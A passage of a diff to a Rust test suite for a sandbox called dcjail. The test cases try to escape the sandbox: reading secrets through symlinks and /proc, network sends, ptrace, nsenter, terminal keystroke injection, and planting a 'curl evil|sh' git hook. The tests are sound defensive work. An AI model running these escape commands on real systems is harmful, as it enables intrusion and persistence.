@@ -65,18 +65,22 @@ impl Ctx {
         }
     }
 
-    fn policy(&self, protect_defaults: bool, net: &str) -> PathBuf {
+    fn policy(&self, protect_defaults: bool, net: &str, deny_write: bool) -> PathBuf {
         let p = self.root.join("policy.toml");
         let text = format!(
             "[permission]\noutcome = \"allow\"\napproval = \"granted\"\n\
              [sandbox]\nmode = \"workspace-write\"\nworkspace = {ws:?}\n\
              [sandbox.filesystem]\nprotect_defaults = {protect_defaults}\n\
-             deny_read = [{p1:?}, {p2:?}]\n deny_write = [{dw:?}]\n\
+             deny_read = [{p1:?}, {p2:?}]\n deny_write = [{dw}]\n\
              [sandbox.network]\nmode = \"{net}\"\n",
             ws = self.ws.to_str().unwrap(),
             p1 = self.private.to_str().unwrap(),
             p2 = self.ws_private.to_str().unwrap(),
-            dw = self.ws.join("locked").to_str().unwrap(),
+            dw = if deny_write {
+                format!("{:?}", self.ws.join("locked").to_str().unwrap())
+            } else {
+                String::new()
+            },
         );
         std::fs::write(&p, text).unwrap();
         p
@@ -84,9 +88,33 @@ impl Ctx {
 }
 
 impl Drop for Ctx {
+    /// Cleans up without ever leaving the test tree: anything a control run
+    /// mounted under it is detached first, and the removal does not cross
+    /// file systems (a bind mount of `/` left behind must not be followed).
     fn drop(&mut self) {
-        let _ = Command::new("chmod").args(["-R", "u+rwX"]).arg(&self.root).status();
-        let _ = std::fs::remove_dir_all(&self.root);
+        let base = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
+        if !self
+            .root
+            .starts_with(std::fs::canonicalize(&base).unwrap_or(base))
+        {
+            return;
+        }
+        if let Ok(info) = std::fs::read_to_string("/proc/self/mountinfo") {
+            let mut points: Vec<&str> = info
+                .lines()
+                .filter_map(|l| l.split(' ').nth(4))
+                .filter(|m| Path::new(m).starts_with(&self.root))
+                .collect();
+            points.sort_by_key(|m| std::cmp::Reverse(m.len()));
+            for m in points {
+                let _ = Command::new("umount").arg("-l").arg(m).status();
+            }
+        }
+        let _ = Command::new("rm")
+            .arg("-rf")
+            .arg("--one-file-system")
+            .arg(&self.root)
+            .status();
     }
 }
 
@@ -105,7 +133,11 @@ struct Env {
 
 impl Env {
     fn var(&self, k: &str) -> String {
-        self.vars.iter().find(|(a, _)| a == k).map(|(_, v)| v.clone()).unwrap_or_default()
+        self.vars
+            .iter()
+            .find(|(a, _)| a == k)
+            .map(|(_, v)| v.clone())
+            .unwrap_or_default()
     }
 }
 
@@ -123,7 +155,8 @@ fn tcp_got_bytes(l: &TcpListener) -> bool {
     for _ in 0..10 {
         if let Ok((mut s, _)) = l.accept() {
             s.set_nonblocking(false).unwrap();
-            s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+            s.set_read_timeout(Some(Duration::from_millis(500)))
+                .unwrap();
             let mut b = [0u8; 16];
             if matches!(s.read(&mut b), Ok(n) if n > 0) {
                 return true;
@@ -139,7 +172,8 @@ fn unix_got_bytes(l: &UnixListener) -> bool {
     for _ in 0..10 {
         if let Ok((mut s, _)) = l.accept() {
             s.set_nonblocking(false).unwrap();
-            s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+            s.set_read_timeout(Some(Duration::from_millis(500)))
+                .unwrap();
             let mut b = [0u8; 16];
             if matches!(s.read(&mut b), Ok(n) if n > 0) {
                 return true;
@@ -151,7 +185,8 @@ fn unix_got_bytes(l: &UnixListener) -> bool {
 }
 
 fn udp_got_bytes(u: &UdpSocket) -> bool {
-    u.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+    u.set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
     let mut b = [0u8; 512];
     u.recv_from(&mut b).is_ok()
 }
@@ -213,157 +248,588 @@ fn outside_untouched(c: &Ctx, _: &mut Env, _: &Output) -> Result<(), String> {
 }
 
 fn start_outside_sleeper(dir: &Path) -> Child {
-    Command::new("sleep").arg("60").current_dir(dir).spawn().unwrap()
+    Command::new("sleep")
+        .arg("60")
+        .current_dir(dir)
+        .spawn()
+        .unwrap()
 }
 
 fn cases() -> Vec<Case> {
     vec![
         // ---- writes outside the writable set
-        Case { group: "write", name: "by path", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("echo x > '{}/escaped'; echo x >> '{}/existing'", c.outside.display(), c.outside.display()),
-            check: outside_untouched },
-        Case { group: "write", name: "through a symlink", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("ln -s '{}' link; echo x > link/escaped; ln -s '{}/existing' l2; echo x >> l2", c.outside.display(), c.outside.display()),
-            check: outside_untouched },
-        Case { group: "write", name: "through a hard link", protect: false, net: "none", setup: no_setup,
+        Case {
+            group: "write",
+            name: "by path",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |c, _| {
+                format!(
+                    "echo x > '{}/escaped'; echo x >> '{}/existing'",
+                    c.outside.display(),
+                    c.outside.display()
+                )
+            },
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "through a symlink",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |c, _| {
+                format!(
+                    "ln -s '{}' link; echo x > link/escaped; ln -s '{}/existing' l2; echo x >> l2",
+                    c.outside.display(),
+                    c.outside.display()
+                )
+            },
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "through a hard link",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |c, _| format!("ln '{}/existing' hl; echo x >> hl", c.outside.display()),
-            check: outside_untouched },
-        Case { group: "write", name: "rename of a parent (deny_write dir)", protect: false, net: "none",
-            setup: |c, _| { std::fs::create_dir_all(c.ws.join("locked")).unwrap(); std::fs::write(c.ws.join("locked/f"), "ORIGINAL").unwrap(); },
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "rename of a parent (deny_write dir)",
+            protect: false,
+            net: "none",
+            setup: |c, _| {
+                std::fs::create_dir_all(c.ws.join("locked")).unwrap();
+                std::fs::write(c.ws.join("locked/f"), "ORIGINAL").unwrap();
+            },
             script: |_, _| "mv locked moved; echo x > moved/f; echo x > locked/f".to_string(),
-            check: |c, _, _| unchanged(&c.ws.join("locked/f"), "ORIGINAL") },
-        Case { group: "write", name: "via ..", protect: false, net: "none", setup: no_setup,
-            script: |_, _| "echo x > ../outside/escaped; echo x >> ./../outside/existing".to_string(),
-            check: outside_untouched },
-        Case { group: "write", name: "via /proc/self/root", protect: false, net: "none", setup: no_setup,
+            check: |c, _, _| unchanged(&c.ws.join("locked/f"), "ORIGINAL"),
+        },
+        Case {
+            group: "write",
+            name: "via ..",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "echo x > ../outside/escaped; echo x >> ./../outside/existing".to_string()
+            },
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "via /proc/self/root",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |c, _| format!("echo x > /proc/self/root'{}/escaped'", c.outside.display()),
-            check: outside_untouched },
-        Case { group: "write", name: "via /proc/<pid>/cwd", protect: false, net: "none",
-            setup: |c, e| { let ch = start_outside_sleeper(&c.outside); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "via /proc/<pid>/cwd",
+            protect: false,
+            net: "none",
+            setup: |c, e| {
+                let ch = start_outside_sleeper(&c.outside);
+                e.vars.push(("PID".into(), ch.id().to_string()));
+                e.outside_proc = Some(ch);
+            },
             script: |_, e| format!("echo x > /proc/{}/cwd/escaped", e.var("PID")),
-            check: outside_untouched },
-        Case { group: "write", name: "to /dev/shm", protect: false, net: "none", setup: no_setup,
+            check: outside_untouched,
+        },
+        Case {
+            group: "write",
+            name: "to /dev/shm",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |c, _| format!("echo x > /dev/shm/dcjail-escape-{}", c.tag),
-            check: |c, _, _| { let p = PathBuf::from(format!("/dev/shm/dcjail-escape-{}", c.tag)); let r = absent(&p); let _ = std::fs::remove_file(&p); r } },
+            check: |c, _, _| {
+                let p = PathBuf::from(format!("/dev/shm/dcjail-escape-{}", c.tag));
+                let r = absent(&p);
+                let _ = std::fs::remove_file(&p);
+                r
+            },
+        },
         // ---- reading denied content
-        Case { group: "read", name: "by path", protect: false, net: "none", setup: no_setup,
+        Case {
+            group: "read",
+            name: "by path",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |c, _| format!("cat '{}/secret' private/secret", c.private.display()),
-            check: secret_not_shown },
-        Case { group: "read", name: "through a symlink", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("ln -s '{}/secret' l; cat l; ln -s private p; cat p/secret", c.private.display()),
-            check: secret_not_shown },
-        Case { group: "read", name: "through a hard link", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("ln '{}/secret' h; cat h; ln private/secret h2; cat h2", c.private.display()),
-            check: secret_not_shown },
-        Case { group: "read", name: "rename of a parent", protect: false, net: "none", setup: no_setup,
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "through a symlink",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |c, _| {
+                format!(
+                    "ln -s '{}/secret' l; cat l; ln -s private p; cat p/secret",
+                    c.private.display()
+                )
+            },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "through a hard link",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |c, _| {
+                format!(
+                    "ln '{}/secret' h; cat h; ln private/secret h2; cat h2",
+                    c.private.display()
+                )
+            },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "rename of a parent",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |_, _| "mv private p2; cat p2/secret".to_string(),
-            check: secret_not_shown },
-        Case { group: "read", name: "via ..", protect: false, net: "none", setup: no_setup,
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "via ..",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |_, _| "cat ../private/secret ./x/../private/secret".to_string(),
-            check: secret_not_shown },
-        Case { group: "read", name: "via /proc/self/root", protect: false, net: "none", setup: no_setup,
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "via /proc/self/root",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             script: |c, _| format!("cat /proc/self/root'{}/secret'", c.private.display()),
-            check: secret_not_shown },
-        Case { group: "read", name: "via /proc/<pid>/cwd", protect: false, net: "none",
-            setup: |c, e| { let ch = start_outside_sleeper(&c.private); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "via /proc/<pid>/cwd",
+            protect: false,
+            net: "none",
+            setup: |c, e| {
+                let ch = start_outside_sleeper(&c.private);
+                e.vars.push(("PID".into(), ch.id().to_string()));
+                e.outside_proc = Some(ch);
+            },
             script: |_, e| format!("cat /proc/{}/cwd/secret", e.var("PID")),
-            check: secret_not_shown },
-        Case { group: "read", name: "an inherited descriptor (fd, /proc/self/fd)", protect: false, net: "none", setup: no_setup,
+            check: secret_not_shown,
+        },
+        Case {
+            group: "read",
+            name: "an inherited descriptor (fd, /proc/self/fd)",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             // The runner opens the secret as fd 5 before starting dcjail.
             script: |_, _| "cat <&5; cat /proc/self/fd/5".to_string(),
-            check: secret_not_shown },
+            check: secret_not_shown,
+        },
         // ---- network
-        Case { group: "network", name: "TCP to a loopback listener", protect: false, net: "none",
-            setup: |_, e| { let l = TcpListener::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), l.local_addr().unwrap().port().to_string())); e.tcp = Some(l); },
-            script: |_, e| format!("{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT")),
-            check: |_, e, _| if tcp_got_bytes(e.tcp.as_ref().unwrap()) { Err("the listener got bytes".into()) } else { Ok(()) } },
-        Case { group: "network", name: "TCP over IPv6 (::1)", protect: false, net: "none",
-            setup: |_, e| { let l = TcpListener::bind("[::1]:0").unwrap(); e.vars.push(("PORT".into(), l.local_addr().unwrap().port().to_string())); e.tcp6 = Some(l); },
-            script: |_, e| format!("{PY} -c \"import socket; s=socket.create_connection(('::1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT")),
-            check: |_, e, _| if tcp_got_bytes(e.tcp6.as_ref().unwrap()) { Err("the listener got bytes".into()) } else { Ok(()) } },
-        Case { group: "network", name: "UDP datagram", protect: false, net: "none",
-            setup: |_, e| { let u = UdpSocket::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), u.local_addr().unwrap().port().to_string())); e.udp = Some(u); },
-            script: |_, e| format!("{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPE', ('127.0.0.1',{}))\"", e.var("PORT")),
-            check: |_, e, _| if udp_got_bytes(e.udp.as_ref().unwrap()) { Err("the listener got a datagram".into()) } else { Ok(()) } },
-        Case { group: "network", name: "DNS query (UDP)", protect: false, net: "none",
-            setup: |_, e| { let u = UdpSocket::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), u.local_addr().unwrap().port().to_string())); e.udp = Some(u); },
-            script: |_, e| format!("{PY} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1',{}))\"", e.var("PORT")),
-            check: |_, e, _| if udp_got_bytes(e.udp.as_ref().unwrap()) { Err("the resolver got the query".into()) } else { Ok(()) } },
-        Case { group: "network", name: "raw / ICMP socket", protect: false, net: "none", setup: no_setup,
-            script: |_, _| format!("{PY} -c \"import socket\nfor t,p in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),(socket.SOCK_RAW, 255)):\n  try:\n    s=socket.socket(socket.AF_INET,t,p); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00',('127.0.0.1',0)); print('OPENED')\n  except OSError: pass\""),
-            check: |_, _, o| out_lacks(o, "OPENED") },
-        Case { group: "network", name: "AF_UNIX socket file (docker-like)", protect: false, net: "none",
-            setup: |c, e| { let p = c.outside.join("docker.sock"); e.unix = Some(UnixListener::bind(&p).unwrap()); e.vars.push(("SOCK".into(), p.display().to_string())); },
-            script: |_, e| format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'ESCAPE')\"", e.var("SOCK")),
-            check: |_, e, _| if unix_got_bytes(e.unix.as_ref().unwrap()) { Err("the socket got bytes".into()) } else { Ok(()) } },
-        Case { group: "network", name: "abstract unix socket", protect: false, net: "none",
+        Case {
+            group: "network",
+            name: "TCP to a loopback listener",
+            protect: false,
+            net: "none",
+            setup: |_, e| {
+                let l = TcpListener::bind("127.0.0.1:0").unwrap();
+                e.vars
+                    .push(("PORT".into(), l.local_addr().unwrap().port().to_string()));
+                e.tcp = Some(l);
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
+            },
+            check: |_, e, _| {
+                if tcp_got_bytes(e.tcp.as_ref().unwrap()) {
+                    Err("the listener got bytes".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "TCP over IPv6 (::1)",
+            protect: false,
+            net: "none",
+            setup: |_, e| {
+                let l = TcpListener::bind("[::1]:0").unwrap();
+                e.vars
+                    .push(("PORT".into(), l.local_addr().unwrap().port().to_string()));
+                e.tcp6 = Some(l);
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; s=socket.create_connection(('::1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT"))
+            },
+            check: |_, e, _| {
+                if tcp_got_bytes(e.tcp6.as_ref().unwrap()) {
+                    Err("the listener got bytes".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "UDP datagram",
+            protect: false,
+            net: "none",
+            setup: |_, e| {
+                let u = UdpSocket::bind("127.0.0.1:0").unwrap();
+                e.vars
+                    .push(("PORT".into(), u.local_addr().unwrap().port().to_string()));
+                e.udp = Some(u);
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPE', ('127.0.0.1',{}))\"", e.var("PORT"))
+            },
+            check: |_, e, _| {
+                if udp_got_bytes(e.udp.as_ref().unwrap()) {
+                    Err("the listener got a datagram".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "DNS query (UDP)",
+            protect: false,
+            net: "none",
+            setup: |_, e| {
+                let u = UdpSocket::bind("127.0.0.1:0").unwrap();
+                e.vars
+                    .push(("PORT".into(), u.local_addr().unwrap().port().to_string()));
+                e.udp = Some(u);
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1',{}))\"", e.var("PORT"))
+            },
+            check: |_, e, _| {
+                if udp_got_bytes(e.udp.as_ref().unwrap()) {
+                    Err("the resolver got the query".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "raw / ICMP socket",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                format!("{PY} -c \"import socket\nfor t,p in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),(socket.SOCK_RAW, 255)):\n  try:\n    s=socket.socket(socket.AF_INET,t,p); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00',('127.0.0.1',0)); print('OPENED')\n  except OSError: pass\"")
+            },
+            check: |_, _, o| out_lacks(o, "OPENED"),
+        },
+        Case {
+            group: "network",
+            name: "AF_UNIX socket file (docker-like)",
+            protect: false,
+            net: "none",
+            setup: |c, e| {
+                let p = c.outside.join("docker.sock");
+                e.unix = Some(UnixListener::bind(&p).unwrap());
+                e.vars.push(("SOCK".into(), p.display().to_string()));
+            },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'ESCAPE')\"", e.var("SOCK"))
+            },
+            check: |_, e, _| {
+                if unix_got_bytes(e.unix.as_ref().unwrap()) {
+                    Err("the socket got bytes".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "abstract unix socket",
+            protect: false,
+            net: "none",
             setup: |c, e| {
                 use std::os::linux::net::SocketAddrExt;
                 let name = format!("dcjail-escape-{}", c.tag);
-                let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+                let addr =
+                    std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
                 e.abstract_sock = Some(UnixListener::bind_addr(&addr).unwrap());
                 e.abstract_name = Some(name.clone());
                 e.vars.push(("NAME".into(), name));
             },
-            script: |_, e| format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{}'); s.sendall(b'ESCAPE')\"", e.var("NAME")),
-            check: |_, e, _| if unix_got_bytes(e.abstract_sock.as_ref().unwrap()) { Err("the abstract socket got bytes".into()) } else { Ok(()) } },
-        Case { group: "network", name: "io_uring", protect: false, net: "none", setup: no_setup,
-            script: |_, _| format!("{PY} -c \"import ctypes; l=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('URING' if fd >= 0 else 'no')\""),
-            check: |_, _, o| out_lacks(o, "URING") },
+            script: |_, e| {
+                format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{}'); s.sendall(b'ESCAPE')\"", e.var("NAME"))
+            },
+            check: |_, e, _| {
+                if unix_got_bytes(e.abstract_sock.as_ref().unwrap()) {
+                    Err("the abstract socket got bytes".into())
+                } else {
+                    Ok(())
+                }
+            },
+        },
+        Case {
+            group: "network",
+            name: "io_uring",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                format!("{PY} -c \"import ctypes; l=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('URING' if fd >= 0 else 'no')\"")
+            },
+            check: |_, _, o| out_lacks(o, "URING"),
+        },
         // ---- privilege
-        Case { group: "privilege", name: "unshare (new namespaces)", protect: false, net: "none", setup: no_setup,
-            script: |_, _| "unshare -U -r true && echo UNSHARED-U; unshare -n true && echo UNSHARED-N; unshare -m true && echo UNSHARED-M".to_string(),
-            check: |_, _, o| out_lacks(o, "UNSHARED") },
-        Case { group: "privilege", name: "setns into another process's namespaces", protect: false, net: "none",
+        Case {
+            group: "privilege",
+            name: "unshare (new namespaces)",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "unshare -U -r true && echo UNSHARED-U; unshare -n true && echo UNSHARED-N; unshare -m true && echo UNSHARED-M".to_string()
+            },
+            check: |_, _, o| out_lacks(o, "UNSHARED"),
+        },
+        Case {
+            group: "privilege",
+            name: "setns into another process's namespaces",
+            protect: false,
+            net: "none",
             setup: |_, e| {
-                let ch = Command::new("unshare").args(["-n", "-m", "sleep", "60"]).spawn().unwrap();
+                let ch = Command::new("unshare")
+                    .args(["-n", "-m", "sleep", "60"])
+                    .spawn()
+                    .unwrap();
                 std::thread::sleep(Duration::from_millis(100));
                 e.vars.push(("PID".into(), ch.id().to_string()));
                 e.outside_proc = Some(ch);
             },
-            script: |_, e| format!("nsenter -t {p} -n true && echo ENTERED; nsenter -t {p} -m true && echo ENTERED", p = e.var("PID")),
-            check: |_, _, o| out_lacks(o, "ENTERED") },
-        Case { group: "privilege", name: "ptrace a process", protect: false, net: "none", setup: no_setup,
-            script: |_, _| format!("sleep 5 & {PY} -c \"import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, $!, 0, 0); print('TRACED' if r == 0 else 'no')\"; kill -KILL $! 2>/dev/null"),
-            check: |_, _, o| out_lacks(o, "TRACED") },
-        Case { group: "privilege", name: "signal a process outside", protect: false, net: "none",
-            setup: |c, e| { let ch = start_outside_sleeper(&c.outside); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            script: |_, e| {
+                format!("nsenter -t {p} -n true && echo ENTERED; nsenter -t {p} -m true && echo ENTERED", p = e.var("PID"))
+            },
+            check: |_, _, o| out_lacks(o, "ENTERED"),
+        },
+        Case {
+            group: "privilege",
+            name: "ptrace a process",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                format!("sleep 5 & {PY} -c \"import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, $!, 0, 0); print('TRACED' if r == 0 else 'no')\"; kill -KILL $! 2>/dev/null")
+            },
+            check: |_, _, o| out_lacks(o, "TRACED"),
+        },
+        Case {
+            group: "privilege",
+            name: "signal a process outside",
+            protect: false,
+            net: "none",
+            setup: |c, e| {
+                let ch = start_outside_sleeper(&c.outside);
+                e.vars.push(("PID".into(), ch.id().to_string()));
+                e.outside_proc = Some(ch);
+            },
             script: |_, e| format!("kill -KILL {}", e.var("PID")),
-            check: |_, e, _| { std::thread::sleep(Duration::from_millis(100)); if alive(e.outside_proc.as_mut().unwrap()) { Ok(()) } else { Err("the outside process was killed".into()) } } },
-        Case { group: "privilege", name: "TIOCSTI (type into the terminal)", protect: false, net: "none", setup: no_setup,
+            check: |_, e, _| {
+                std::thread::sleep(Duration::from_millis(100));
+                if alive(e.outside_proc.as_mut().unwrap()) {
+                    Ok(())
+                } else {
+                    Err("the outside process was killed".into())
+                }
+            },
+        },
+        Case {
+            group: "privilege",
+            name: "TIOCSTI (type into the terminal)",
+            protect: false,
+            net: "none",
+            setup: no_setup,
             // The runner gives the command a pty as stdin and reads what was queued.
-            script: |_, _| format!("{PY} -c \"import fcntl,termios\nfor ch in b'INJECTED': fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))\""),
-            check: |_, _, o| out_lacks(o, "INJECTED") },
-        Case { group: "privilege", name: "mount", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("mount -t tmpfs none '{}' && echo MOUNTED; mount --bind / '{}' && echo MOUNTED", c.outside.display(), c.ws.display()),
-            check: |_, _, o| out_lacks(o, "MOUNTED") },
+            script: |_, _| {
+                format!("{PY} -c \"import fcntl,termios\nfor ch in b'INJECTED': fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))\"")
+            },
+            check: |_, _, o| out_lacks(o, "INJECTED"),
+        },
+        Case {
+            group: "privilege",
+            name: "mount",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            // Only ever a tmpfs over the test's own directory, detached at once.
+            script: |c, _| {
+                format!(
+                    "mount -t tmpfs none '{o}' && echo MOUNTED && umount '{o}'",
+                    o = c.outside.display()
+                )
+            },
+            check: |_, _, o| out_lacks(o, "MOUNTED"),
+        },
+        Case {
+            group: "privilege",
+            name: "setuid-root binary run by an unprivileged user",
+            protect: false,
+            net: "none",
+            setup: |c, _| {
+                std::fs::copy("/usr/bin/id", c.outside.join("suid-id")).unwrap();
+                assert!(Command::new("chmod")
+                    .arg("4755")
+                    .arg(c.outside.join("suid-id"))
+                    .status()
+                    .unwrap()
+                    .success());
+                for d in [&c.root, &c.ws, &c.outside] {
+                    assert!(Command::new("chmod")
+                        .arg("755")
+                        .arg(d)
+                        .status()
+                        .unwrap()
+                        .success());
+                }
+            },
+            script: |c, _| format!("echo EUID=$('{}/suid-id' -u)", c.outside.display()),
+            // The command must have run (EUID printed) without gaining root;
+            // a dcjail that failed to start at all proves nothing.
+            check: |_, _, o| {
+                if !String::from_utf8_lossy(&o.stdout).contains("EUID=") {
+                    return Err(format!(
+                        "the command did not run (is the test tree traversable by uid 65534?): {}",
+                        String::from_utf8_lossy(&o.stderr)
+                    ));
+                }
+                out_lacks(o, "EUID=0\n")
+            },
+        },
         // ---- protected paths
-        Case { group: "protected", name: ".git/hooks and .git/config", protect: true, net: "none", setup: no_setup,
-            script: |_, _| "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; echo ok > .git/description".to_string(),
-            check: |c, _, _| { absent(&c.ws.join(".git/hooks/pre-commit"))?; unchanged(&c.ws.join(".git/config"), "[core]\n") } },
-        Case { group: "protected", name: "create missing .bashrc, .vscode, .mcp.json", protect: true, net: "none", setup: no_setup,
-            script: |_, _| "echo evil > .bashrc; mkdir .vscode; echo {} > .vscode/settings.json; echo {} > .mcp.json; mkdir -p .claude/commands; echo x > .claude/commands/x.md".to_string(),
-            check: |c, _, _| { for n in [".bashrc", ".vscode", ".mcp.json", ".claude/commands"] { absent(&c.ws.join(n))?; } Ok(()) } },
-        Case { group: "protected", name: "rename .git away, write hooks", protect: true, net: "none", setup: no_setup,
-            script: |_, _| "mv .git g2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; mv g2/hooks g2/h2; echo evil > g2/hooks/pre-commit".to_string(),
-            check: |c, _, _| { absent(&c.ws.join(".git/hooks/pre-commit"))?; absent(&c.ws.join("g2/hooks/pre-commit"))?; if c.ws.join(".git/config").exists() { Ok(()) } else { Err(".git was moved".into()) } } },
-        Case { group: "protected", name: "hard link a protected file", protect: true, net: "none", setup: no_setup,
+        Case {
+            group: "protected",
+            name: ".git/hooks and .git/config",
+            protect: true,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; echo ok > .git/description".to_string()
+            },
+            check: |c, _, _| {
+                absent(&c.ws.join(".git/hooks/pre-commit"))?;
+                unchanged(&c.ws.join(".git/config"), "[core]\n")
+            },
+        },
+        Case {
+            group: "protected",
+            name: "create missing .bashrc, .vscode, .mcp.json",
+            protect: true,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "echo evil > .bashrc; mkdir .vscode; echo {} > .vscode/settings.json; echo {} > .mcp.json; mkdir -p .claude/commands; echo x > .claude/commands/x.md".to_string()
+            },
+            check: |c, _, _| {
+                for n in [".bashrc", ".vscode", ".mcp.json", ".claude/commands"] {
+                    absent(&c.ws.join(n))?;
+                }
+                Ok(())
+            },
+        },
+        Case {
+            group: "protected",
+            name: "rename .git away, write hooks",
+            protect: true,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "mv .git g2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; mv g2/hooks g2/h2; echo evil > g2/hooks/pre-commit".to_string()
+            },
+            check: |c, _, _| {
+                absent(&c.ws.join(".git/hooks/pre-commit"))?;
+                absent(&c.ws.join("g2/hooks/pre-commit"))?;
+                if c.ws.join(".git/config").exists() {
+                    Ok(())
+                } else {
+                    Err(".git was moved".into())
+                }
+            },
+        },
+        Case {
+            group: "protected",
+            name: "hard link a protected file",
+            protect: true,
+            net: "none",
+            setup: no_setup,
             script: |_, _| "ln .git/config cfg && echo '[x]' >> cfg".to_string(),
-            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n") },
+            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n"),
+        },
         // ---- processes
-        Case { group: "process", name: "background daemon outliving dcjail", protect: false, net: "none", setup: no_setup,
